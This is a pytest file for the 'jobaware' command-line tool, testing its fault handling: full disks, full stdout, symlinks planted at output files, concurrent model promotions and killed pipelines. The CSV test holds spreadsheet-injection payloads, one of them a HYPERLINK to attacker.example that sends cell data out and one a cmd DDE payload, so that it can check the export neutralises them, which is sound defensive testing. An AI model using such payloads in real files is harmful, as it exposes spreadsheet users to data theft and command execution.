"""Whole under faults: a full standard output, a full disk, a kill, two writers at once. Each case ends with one line
and exit 1, and leaves nothing half-written behind."""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.conftest import NREL_CSV, ROOT

JOBAWARE = str(Path(sys.executable).with_name("jobaware"))


def jobaware(*args, env=None, stdout=None, timeout=300) -> subprocess.CompletedProcess:
    return subprocess.run([JOBAWARE, *map(str, args)], stdout=stdout if stdout is not None else subprocess.PIPE,
                          stderr=subprocess.PIPE, text=True, cwd=ROOT, env=env, timeout=timeout)


def one_error_line(result: subprocess.CompletedProcess) -> str:
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), result.stderr
    return lines[0]


# ---------------------------------------------------------------- a full standard output
@pytest.fixture(scope="module")
def empty_registry(tmp_path_factory) -> Path:
    """A JOBAWARE_HOME whose MLflow store exists and holds no model."""
    home = tmp_path_factory.mktemp("home")
    subprocess.run([sys.executable, "-c", "from jobaware import tracking; tracking.experiment_id('failure')"],
                   check=True, env={**os.environ, "JOBAWARE_HOME": str(home)}, timeout=300)
    return home


@pytest.mark.parametrize("args", [("capabilities", "--json"), ("capabilities",), ("models", "list", "--json"),
                                  ("models", "list", "--json", "--no-such-option"), ("models", "show", "failure", "9",
                                                                                     "--json")])
def test_a_full_stdout_ends_with_exit_1_and_one_line_on_stderr(args, empty_registry, monkeypatch):
    """`> /dev/full`: the answer (or, with --json, the JSON error) cannot be written. Before, the JSON error failed on
    the same stdout inside the error handler: a traceback, and at exit another one."""
    monkeypatch.setenv("JOBAWARE_HOME", str(empty_registry))
    with open("/dev/full", "w") as full:
        result = jobaware(*args, stdout=full)
    assert result.returncode == (2 if "--no-such-option" in args else 1), result.stderr
    assert "standard output: No space left on device" in one_error_line(result)
    assert "Traceback" not in result.stderr


# ---------------------------------------------------------------- what predict writes beside its output
@pytest.fixture
def one_bad_record(tmp_path) -> Path:
    """The NREL sample with one bad record: predict writes it to OUTPUT.quarantine.jsonl."""
    lines = NREL_CSV.read_text().splitlines()
    lines[3] = "not-a-number" + lines[3][lines[3].index(","):]
    path = tmp_path / "jobs.csv"
    path.write_text("\n".join(lines) + "\n")
    return path


def test_predict_leaves_an_existing_quarantine_file_alone_without_overwrite(one_bad_record, champion, tmp_path):
    """Before, `predict` replaced OUTPUT.quarantine.jsonl whatever was there, --overwrite or not."""
    output, quarantine = tmp_path / "out.jsonl", tmp_path / "out.jsonl.quarantine.jsonl"
    quarantine.write_text("kept\n")
    refused = jobaware("predict", "failure", "--input", one_bad_record, "--output", output)
    assert refused.returncode == 1
    assert one_error_line(refused) == f"error: {quarantine}: exists; give --overwrite to replace it"
    assert quarantine.read_text() == "kept\n" and not output.exists()
    done = jobaware("predict", "failure", "--input", one_bad_record, "--output", output, "--overwrite")
    assert done.returncode == 0, done.stderr
    assert "not-a-number" in quarantine.read_text() and output.stat().st_size


def test_predict_never_follows_a_link_planted_at_its_quarantine_file(one_bad_record, champion, tmp_path):
    """A link at OUTPUT.quarantine.jsonl (to a file of the victim's) is refused, --overwrite or not; the file it points
    to keeps its bytes and mode."""
    output, quarantine = tmp_path / "out.jsonl", tmp_path / "out.jsonl.quarantine.jsonl"
    victim = tmp_path / "victim"
    victim.write_text("the victim's\n")
    victim.chmod(0o600)
    quarantine.symlink_to(victim)
    for extra in ((), ("--overwrite",)):
        refused = jobaware("predict", "failure", "--input", one_bad_record, "--output", output, *extra)
        assert refused.returncode == 1
        assert one_error_line(refused) == (f"error: {quarantine}: a symbolic link is there; it is never followed nor "
                                           "replaced")
        assert quarantine.is_symlink() and victim.read_text() == "the victim's\n"
        assert victim.stat().st_mode & 0o777 == 0o600 and not output.exists()


# ---------------------------------------------------------------- a full disk
@pytest.fixture
def small_disk(tmp_path) -> Path:
    """A real 1 MiB file system (tmpfs), unmounted afterwards."""
    if os.geteuid() != 0:
        pytest.skip("mounting a tmpfs needs root")
    folder = tmp_path / "disk"
    folder.mkdir()
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(folder)], check=True)
    try:
        yield folder
    finally:
        subprocess.run(["umount", "--lazy", str(folder)], check=True)


@pytest.fixture(scope="module")
def big_store(tmp_path_factory) -> Path:
    """A SQLite job store of 6,000 finished jobs, about 12 MB (its export about 1.3 MB): more than the small disk."""
    from jobaware.store import JobKey, open_store

    folder = tmp_path_factory.mktemp("big") / "store"
    with open_store(str(folder)) as store, store.batch():
        for i in range(6000):
            key = JobKey("c1", i, 1_700_000_000 + i)
            store.put_job(key, {"job_id": i, "name": f"job-{i:05d}-" + "x" * 200, "submit_time": key.submit_time,
                                "user": "u", "state": "COMPLETED"})
            store.put_script(key, "#!/bin/bash\n" + "echo hello\n" * 150)
            store.put_final(key, "COMPLETED", "sacct", exit_code=0)
    return folder


def test_failure_export_on_a_full_disk_leaves_nothing(big_store, small_disk):
    """Before, a 0-byte (or cut) `.partial` was left beside the output."""
    output = small_disk / "jobs.csv"
    result = jobaware("failure", "export", "--store", big_store, "--output", output)
    assert result.returncode == 1
    assert one_error_line(result) == (f"error: {output}: cannot be written (No space left on device); nothing was "
                                      "left of it")
    assert list(small_disk.iterdir()) == []


@pytest.mark.parametrize("kind", ["sqlite", "folder"])
def test_a_store_copy_on_a_full_disk_leaves_no_half_store(kind, big_store, small_disk):
    """Before: a partial SQLite store behind 'unexpected OperationalError', or a cut folder log."""
    destination = f"{kind}:{small_disk / 'sub' / 'store'}"
    result = jobaware("store", "copy", "--input", big_store, "--output", destination)
    assert result.returncode == 1
    assert result.stderr.splitlines()[0] == f"copying 6,000 jobs from {big_store} to {destination}"
    assert result.stderr.splitlines()[1].startswith(f"error: store copy: {destination}: the copy stopped (")
    assert result.stderr.splitlines()[1].endswith("); nothing was left of it") and len(result.stderr.splitlines()) == 2
    assert list(small_disk.iterdir()) == []


def test_a_store_copy_into_an_existing_store_says_what_it_holds_and_how_to_finish(big_store, small_disk):
    """Into a store that exists, what was copied stays (each job whole) and the line says how to finish."""
    existing = small_disk / "store"
    existing.mkdir()
    result = jobaware("store", "copy", "--input", big_store, "--output", f"folder:{existing}")
    assert result.returncode == 1
    line = result.stderr.splitlines()[-1]
    assert line.startswith(f"error: store copy: folder:{existing}: the copy stopped (No space left on device); it "
                           "holds the ") and line.endswith("of 6,000 jobs copied before, each whole: run the same "
                                                           "command with --merge to finish")
    subprocess.run(["mount", "-o", "remount,size=32m", str(small_disk)], check=True)
    finished = jobaware("store", "copy", "--input", big_store, "--output", f"folder:{existing}", "--merge")
    assert finished.returncode == 0, finished.stderr
    from jobaware.store import open_store

    with open_store(f"folder:{existing}") as copied, open_store(str(big_store)) as original:
        assert list(copied.records()) == list(original.records())


# ---------------------------------------------------------------- CSV for people
FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
            "\t=1+1", "\r=1+1", "'=already quoted", "plain-name", "a=b"]


def test_failure_export_neutralises_spreadsheet_formulas_and_reads_back_the_same_names(tmp_path):
    """A job's owner names it `=HYPERLINK(...)` (or starts its name, account or folder with + - @ tab CR): in the CSV
    `failure export` writes, no text cell starts a formula (OWASP: a `'` before it); read back by the failure reader,
    every name is the job's own. Before, the cells were written as they were."""
    import csv

    from jobaware.failure.reader import read_jobs
    from jobaware.store import JobKey, open_store

    store = tmp_path / "store"
    with open_store(str(store)) as opened:
        for i, name in enumerate(FORMULAS):
            key = JobKey("c1", i + 1, 1_700_000_000 + i)
            opened.put_job(key, {"job_id": i + 1, "name": name, "user": f"-u{i}", "account": "@acct",
                                 "work_dir": "=cwd", "submit_time": key.submit_time, "state": "COMPLETED"})
            opened.put_final(key, "COMPLETED", "sacct", exit_code=0)
    output = tmp_path / "jobs.csv"
    result = jobaware("failure", "export", "--store", store, "--output", output)
    assert result.returncode == 0, result.stderr
    with open(output, newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for column in ("name", "user", "account", "work_dir"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (column, row[column])
    assert {row["name"] for row in rows} >= {"'" + FORMULAS[0], "''=already quoted", "plain-name", "a=b"}
    jobs, _ = read_jobs(output)
    assert sorted(jobs["name"]) == sorted(FORMULAS)
    assert set(jobs["account"]) == {"@acct"} and set(jobs["work_dir"]) == {"=cwd"}


# ---------------------------------------------------------------- two promotions at once
@pytest.fixture
def three_versions(synthetic, tmp_path, monkeypatch) -> Path:
    """A home whose registry holds versions 1 (champion), 2 and 3 of failure: one model, registered three times."""
    from jobaware import gate, tracking
    from jobaware.failure.reader import read_jobs
    from jobaware.failure.train import log_trained, train_in_memory

    home = tmp_path / "home"
    monkeypatch.setenv("JOBAWARE_HOME", str(home))
    jobs, _ = read_jobs(synthetic[0])
    bundle, evaluation = train_in_memory(jobs, {"max_iter": 40}, plot_dir=tmp_path / "plots")
    run_id = log_trained(bundle, evaluation, {"max_iter": 40}, tmp_path / "train")
    assert [tracking.register("failure", run_id) for _ in range(3)] == ["1", "2", "3"]
    assert gate.promote("failure", "1")["promoted"]
    return home


@pytest.mark.slow
def test_two_promotions_at_once_leave_the_newer_champion_and_a_true_history(three_versions):
    """Two `models promote` of versions 2 and 3 started together (two pipelines of one capability on one home).
    Before, both gates judged against version 1 and both moved the champion: whichever finished last stayed (the
    older one, at times), and the history kept one entry where there had been two moves, so that `models rollback`
    skipped a champion. Now they take turns: 3 stays champion, and rolling back walks every champion there was."""
    from mlflow import MlflowClient

    from jobaware import config

    both = [subprocess.Popen([JOBAWARE, "models", "promote", "failure", version, "--json"], cwd=ROOT,
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for version in ("2", "3")]
    said = [process.communicate(timeout=600) for process in both]
    assert all("Traceback" not in err for _, err in said), said
    uri = config.tracking_uri(create=False)
    client = MlflowClient(uri, uri)
    experiment = client.get_experiment_by_name("jobaware-failure").experiment_id
    promotions = client.search_runs([experiment], "tags.`jobaware.action` = 'promote' and metrics.promoted = 1",
                                    order_by=["attributes.start_time ASC"])
    champions = [run.data.params["candidate"] for run in promotions]  # each move, in the order it happened
    assert champions[0] == "1" and champions[-1] == "3", champions
    assert str(client.get_model_version_by_alias("jobaware-failure", "champion").version) == "3"
    for earlier in reversed(champions[:-1]):  # rollback walks back every champion there was, none skipped
        back = jobaware("models", "rollback", "failure", "--json")
        assert back.returncode == 0 and json.loads(back.stdout)["champion"] == earlier, back.stderr
    assert "no earlier champion" in one_error_line(jobaware("models", "rollback", "failure"))


# ---------------------------------------------------------------- a pipeline stopped during training
TRIAL_STARTED = re.compile(r"Executing task (?:\x1b\[[0-9;]*m)?'trial-hold'")  # kfp.local colours the task's name


@pytest.mark.slow
@pytest.mark.timeout(1200)
@pytest.mark.parametrize("signum", [signal.SIGINT, signal.SIGTERM], ids=["SIGINT", "SIGTERM"])
def test_a_pipeline_stopped_during_training_leaves_no_mlflow_run_running(signum, tmp_path):
    """Ctrl-C (SIGINT) or SIGTERM to `pipeline run hold` while its sweep's trials train. The runner kills the steps
    (SIGKILL: nothing of theirs can run on the way out), so the sweep's MLflow run, open across its trials, stayed
    RUNNING for ever. Now the runner marks every run the pipeline's steps left RUNNING as KILLED."""
    from mlflow import MlflowClient

    from jobaware import capabilities

    capability = capabilities.get("hold")
    rows, params = capability.smoke
    data, home = tmp_path / "data", tmp_path / "home"
    capability.synth(data, rows, seed=5, fmt=None, progress=None)
    env = {**os.environ, "JOBAWARE_HOME": str(home)}
    env.pop("MLFLOW_TRACKING_URI", None)
    args = [f"--param={name}={value if isinstance(value, str) else json.dumps(value)}" for name, value in params.items()]
    # Ctrl-C's SIGINT at its default, as at a terminal: a test run started in the background of a script inherits
    # it ignored, and so would the pipeline
    process = subprocess.Popen([JOBAWARE, "pipeline", "run", "hold", "--input", data, *args], cwd=ROOT, env=env,
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                               preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))
    try:
        deadline = time.monotonic() + 900
        while not any(TRIAL_STARTED.search(log.read_text(errors="replace"))
                      for log in (home / "logs").glob("pipeline-hold-*.log")):
            assert process.poll() is None and time.monotonic() < deadline, "no trial started"
            time.sleep(0.5)
        process.send_signal(signum)
        _, stderr = process.communicate(timeout=300)
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
    assert process.returncode in (130, 128 + signum), stderr
    uri = f"sqlite:///{home / 'mlflow.db'}"
    client = MlflowClient(uri, uri)
    runs = client.search_runs([client.get_experiment_by_name("jobaware-hold").experiment_id], "")
    status = {run.info.run_name: run.info.status for run in runs}
    assert status.get("sweep") == "KILLED" and "RUNNING" not in status.values(), status
